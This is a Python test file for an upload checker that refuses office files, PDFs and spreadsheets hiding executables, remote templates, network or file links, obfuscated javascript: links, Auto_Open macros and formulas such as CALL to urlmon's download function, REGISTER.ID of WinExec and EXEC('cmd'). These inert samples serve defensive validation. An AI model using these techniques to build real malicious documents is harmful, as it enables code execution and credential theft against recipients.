"""Files that hide what runs or leads elsewhere: in a part, an encoding, a formula, or the file's own name."""

import re
from io import BytesIO
from xml.sax.saxutils import escape, quoteattr

import pikepdf
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from pikepdf import Dictionary, Name, String

from files.content_checks import OPEN_DOCUMENT, document_fault
from tests.conftest import holder
from tests.files.screens import add, model_of
from tests.files.test_documents import RELATIONS, a_form, linking
from tests.files.test_uploads import archive, docx, pdf, pdf_with

PROGRAMS = {"windows": b"MZ", "linux": b"\x7fELF", "script": b"#!/bin/sh", "macos": b"\xca\xfe\xba\xbe"}


def fault(content: bytes, extension: str) -> str:
    return document_fault(BytesIO(content), extension)


def odt(**more: bytes) -> bytes:
    return archive(mimetype=OPEN_DOCUMENT["odt"], **{"content.xml": b"<x/>", **more})


@pytest.mark.parametrize("begin", PROGRAMS.values(), ids=PROGRAMS)
@pytest.mark.parametrize(("made", "extension"), [(docx, "docx"), (odt, "odt")], ids=["docx", "odt"])
def test_an_office_file_with_a_program_in_a_part_is_refused(made, extension, begin):
    program = begin + b"\0" * 99
    within = docx(**{"word/media/b.png": program})
    for name, content in (
        ("word/media/a.png", program),
        ("word/embeddings/a.zip", archive(**{"a.exe": b"x"})),
        ("word/embeddings/a.bin", archive(**{"a.txt": program})),
        ("word/embeddings/a.docx", within),
        ("word/embeddings/b.bin", b"Rar!\x1a\x07" + b"\0" * 99),
    ):
        said = fault(made(**{name: content}), extension)
        assert said.startswith("Berkas memuat"), name
        assert "dijalankan" in said or "tidak dapat diperiksa" in said
    assert "dijalankan" in fault(archive(**{"surat.docx": within}), "zip")


def test_a_charts_sheet_in_an_office_file_is_taken():
    book, out = Workbook(), BytesIO()
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_row=2))
    book.active.add_chart(chart)
    book.save(out)
    held = docx(**{"word/embeddings/lembar.xlsx": out.getvalue(), "word/media/a.svg": b"<x/>"})
    assert fault(held, "docx") == ""
    assert fault(archive(**{"1.zip": archive(**{"2.zip": archive(**{"a.docx": docx()})})}), "zip") == ""


SCRIPT = "<?xml version='1.0'?><template><event><script>app.alert(1)</script></event></template>"


def uri(address: str | bytes):
    return linking(S=Name.URI, URI=String(address))


def from_elsewhere(**told):
    def change(document: pikepdf.Pdf) -> None:
        form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], **told)
        document.pages[0].Resources.XObject.X = form

    return change


def based(address: str):
    def change(document: pikepdf.Pdf) -> None:
        document.Root.URI = document.make_indirect(Dictionary(Base=address))
        uri("a.pdf")(document)

    return change


A_FILE = Dictionary(F="\\\\server\\a.pdf", Page=0)
PDFS = {
    "form in UTF-16": (a_form(SCRIPT.encode("utf-16")), "skrip"),
    "form in UTF-16BE": (a_form(b"\xfe\xff" + SCRIPT.encode("utf-16-be")), "skrip"),
    "link in UTF-16": (uri(b"\xfe\xff" + "file:///c:/a".encode("utf-16-be")), "komputer atau jaringan"),
    "link in UTF-8": (uri(b"\xef\xbb\xbffile:///c:/a"), "komputer atau jaringan"),
    "blanks": (uri(" java\nscr\tipt:alert(1)"), "komputer atau jaringan"),
    "base": (based("file://server/bagi/"), "komputer atau jaringan"),
    "base in the network": (based("\\\\server\\bagi\\"), "komputer atau jaringan"),
    "thread": (linking(S=Name.Thread, D=0, F="\\\\server\\a.pdf"), "membuka berkas lain"),
    "form": (from_elsewhere(Ref=A_FILE), "membuka berkas lain"),
    "print shop's picture": (from_elsewhere(OPI=Dictionary({"/1.3": A_FILE})), "membuka berkas lain"),
}
SOUND_PDFS = {
    "thread": linking(S=Name.Thread, D=0),
    "base": based("https://kpu.go.id/"),
    "link in UTF-16": uri(b"\xfe\xff" + "https://kpu.go.id/berkas:a".encode("utf-16-be")),
    "form": a_form("<template><field name='script'/></template>".encode("utf-16")),
}


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_that_hides_where_it_leads_is_refused(name):
    change, named = PDFS[name]
    assert named in fault(pdf_with(change), "pdf")


@pytest.mark.parametrize("name", SOUND_PDFS)
def test_a_pdf_that_leads_to_the_web_or_within_is_taken(name):
    assert fault(pdf_with(SOUND_PDFS[name]), "pdf") == ""


def related(extension: str, part: str, kind: str, target: str, **more: bytes) -> bytes:
    """An office file in which a part leads to a target, without saying that it lies outside."""
    relation = f'<Relationship Id="r" Type="http://x.id/relationships/{kind}" Target="{target}"/>'
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[extension]
    rels = f"<Relationships {RELATIONS}>{relation}</Relationships>".encode()
    return archive(**{"[Content_Types].xml": b"<Types/>", main: b"<w/>", part: rels, **more})


def sheet(formula: str, names: str = "") -> bytes:
    cell = f"<worksheet><row><c><f>{escape(formula)}</f></c></row></worksheet>"
    book = f"<workbook><definedNames>{names}</definedNames></workbook>"
    parts = {"xl/workbook.xml": book.encode(), "xl/worksheets/sheet1.xml": cell.encode()}
    return archive(**{"[Content_Types].xml": b"<Types/>", **parts})


def open_sheet(formula: str) -> bytes:
    cell = f'<x xmlns:table="t"><table:table-cell table:formula={quoteattr("of:=" + formula)}/></x>'
    return archive(mimetype=OPEN_DOCUMENT["ods"], **{"content.xml": cell.encode()})


SETTINGS = "word/_rels/settings.xml.rels"
RIBBON = b'<customUI onLoad="https://x.id/a!b"/>'
OFFICE = {
    "template in the network": (related("docx", SETTINGS, "attachedTemplate", r"\\server\a.dotm"), "templat dari luar"),
    "template in the web": (related("docx", SETTINGS, "attachedTemplate", "https://x.id/a"), "templat dari luar"),
    "template as a file": (related("docx", SETTINGS, "attachedTemplate", "file://server/a"), "templat dari luar"),
    "picture": (related("docx", "word/_rels/document.xml.rels", "image", "https://x.id/a.png"), "diambil dari luar"),
    "link": (
        related("docx", "word/_rels/document.xml.rels", "hyperlink", "java&#10;script:a"),
        "tautan yang menjalankan",
    ),
    "macro sheet": (related("xlsx", "xl/_rels/workbook.xml.rels", "xlMacrosheet", "macrosheets/a.xml"), "makro"),
    "ribbon": (
        related("docx", "_rels/.rels", "extensibility", "customUI/a.xml", **{"customUI/a.xml": RIBBON}),
        "makro dari luar (https://x.id/a!b)",
    ),
    "macro name": (sheet("A1", '<definedName name="_xlnm.Auto_Open">A!$A$1</definedName>'), "makro"),
    "called by a name": (sheet("A1", '<definedName name="a">CALL("urlmon","x")</definedName>'), "(CALL)"),
}
FORMULAS = {
    '_xlfn.WEBSERVICE("https://x.id/"&A2)': "mengambil isi dari luar (WEBSERVICE)",
    '1+_xlfn._xlws.IMAGE("https://x.id/a.png")': "mengambil isi dari luar (IMAGE)",
    'IF(A1;RTD("x";"server";"a"))': "mengambil isi dari luar (RTD)",
    'CALL("urlmon","URLDownloadToFileA")': "menjalankan program (CALL)",
    'REGISTER.ID("kernel32","WinExec")': "menjalankan program (REGISTER.ID)",
    'EXEC("cmd")': "menjalankan program (EXEC)",
    'HYPERLINK("file:///c:/a.exe","a")': "komputer atau jaringan (file:///c:/a.exe)",
    'HYPERLINK(CONCAT("fi","le:///c:/"),"a")': "komputer atau jaringan (file:///c:/)",
    'HYPERLINK("fi"&"le:///c:/a.exe","a")': "komputer atau jaringan",
    'HYPERLINK("\\\\server\\bagi","a")': "komputer atau jaringan",
    'HYPERLINK(" java\nscript:a","a")': "menjalankan program",
    'HYPERLINK(A1,"//")': "disusun dari sel lain",
    'HYPERLINK([.A1];"buka")': "disusun dari sel lain",
    'HYPERLINK("fi"&A1,"a")': "disusun dari sel lain",
    'HYPERLINK(CONCAT("fi",A1),"a")': "disusun dari sel lain",
    'IF(A1,HYPERLINK(INDIRECT("A1"),"a"),"")': "disusun dari sel lain",
}
SOUND_FORMULAS = (
    'HYPERLINK("https://kpu.go.id/"&A1,"buka")',
    'HYPERLINK("#\'Rekap 1\'!A1","ke rekap")',
    'HYPERLINK("lampiran.pdf")',
    'HYPERLINK(CONCAT("https://kpu.go.id/",A1),"buka")',
    'HYPERLINK("mailto:"&A1)',
    '"pakai HYPERLINK(A1)"',
    'IF(A1="CALL(1)","RTD (x)",\'EXEC(\'!A1)',
    "SUM(PANGGIL.CALLS(A1),IMAGES(1))",
)


@pytest.mark.parametrize("name", OFFICE)
def test_an_office_file_that_hides_where_it_leads_is_refused(name):
    content, named = OFFICE[name]
    assert named in fault(content, "xlsx" if b"xl/workbook" in content else "docx")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_fetches_or_runs_is_refused_by_name(formula):
    assert FORMULAS[formula] in fault(sheet(formula), "xlsx")
    assert FORMULAS[formula] in fault(open_sheet(formula.replace("_xlfn.", "COM.MICROSOFT.")), "ods")


@pytest.mark.parametrize("formula", SOUND_FORMULAS)
def test_a_formula_that_stays_within_or_links_to_the_web_is_taken(formula):
    assert fault(sheet(formula), "xlsx") == fault(open_sheet(formula), "ods") == ""


def test_a_ribbon_of_the_programs_own_buttons_and_links_to_the_web_are_taken():
    ribbon = b'<customUI><button idMso="Copy" onAction="Salin"/></customUI>'
    parts = {"customUI/a.xml": ribbon}
    assert fault(related("docx", "_rels/.rels", "extensibility", "customUI/a.xml", **parts), "docx") == ""
    assert fault(related("docx", "word/_rels/document.xml.rels", "hyperlink", "https://kpu.go.id"), "docx") == ""


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "kept"),
    [("a.pdf ", "a"), ("a.pdf.", "a"), ("a.pdf. .", "a"), (".pdf", "berkas")],
)
def test_blanks_and_dots_that_end_a_name_are_no_part_of_it(name, kept):
    add(holder("serang", "staf"), "documents", name, pdf())
    stored = model_of("documents").objects.get(title="Berkas")
    assert re.fullmatch(rf"{kept}(_\w+)?\.pdf", stored.filename)  # storage tells two of a name apart


@pytest.mark.django_db
def test_a_file_named_only_by_its_extension_is_told_its_own_fault_alone():
    said = add(holder("serang", "staf"), "documents", ".pdf", pdf()[:200])
    assert "rusak" in said
    assert "tidak diizinkan" not in said
